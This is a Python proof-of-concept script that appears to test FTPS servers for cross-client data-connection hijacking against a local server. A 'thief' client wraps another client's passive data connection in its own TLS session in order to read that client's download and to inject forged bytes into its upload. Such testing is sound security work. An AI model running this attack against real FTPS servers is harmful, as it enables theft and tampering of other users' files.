"""
A client of FTPS connects for the data of another one of the same address, with a session of its own control connection:
data_thief.py PORT NAME CA VERSION. What came of it is printed line by line.
"""

import io
import socket
import ssl
import sys
from ftplib import FTP_TLS, Error


class Client(FTP_TLS):
    """Each data connection resumes the newest session: the control connection's, or that of the data before."""

    newest = None

    def enter(self):
        self.connect(name, port)
        self.login()
        self.prot_p()
        self.newest = self.sock.session
        return self

    def ntransfercmd(self, cmd, rest=None):
        conn, size = super(FTP_TLS, self).ntransfercmd(cmd, rest)
        return self.secured(conn), size

    def secured(self, conn):
        return self.context.wrap_socket(conn, server_hostname=name, session=self.newest)

    def fetch(self):
        """Bytes that came, and whether they did in a session that was resumed."""
        conn = self.transfercmd("RETR file")
        fetched = io.BytesIO()
        while block := conn.recv(65536):
            fetched.write(block)
        self.newest = conn.session
        resumed = conn.session_reused
        conn.close()
        self.voidresp()
        return len(fetched.getvalue()), resumed


port, name, ca = int(sys.argv[1]), sys.argv[2], sys.argv[3]
plain_lookup = socket.getaddrinfo
socket.getaddrinfo = lambda host, *more, **named: plain_lookup(
    "127.0.0.1" if host == name else host, *more, **named
)
context = ssl.create_default_context(cafile=ca)
context.minimum_version = context.maximum_version = ssl.TLSVersion[sys.argv[4]]
owner, thief = (Client(context=context, timeout=100).enter() for _ in range(2))

stolen = socket.create_connection(owner.makepasv(), timeout=100)
owner.putcmd("RETR file")
owner.getresp()
got = b""
try:
    got = thief.secured(stolen).recv(1)
except OSError:
    pass
print("thief got", got)
try:
    owner.getresp()
except Error:
    pass  # or the server had sent it all by then, to nobody
forged = socket.create_connection(owner.makepasv(), timeout=100)
target = "in/stolen-" + sys.argv[4]
owner.putcmd("STOR " + target)
owner.getresp()
try:
    with thief.secured(forged) as conn:
        conn.sendall(b"forged")
except OSError:
    pass
try:
    print("owner is told", owner.getresp())
except Error as error:
    print("owner is told", str(error)[0:3])
owner.voidcmd("TYPE I")
print("stored", owner.size(target))
for who, client in ("owner", owner), ("thief", thief), ("owner", owner):
    print(who, "fetched", *client.fetch())
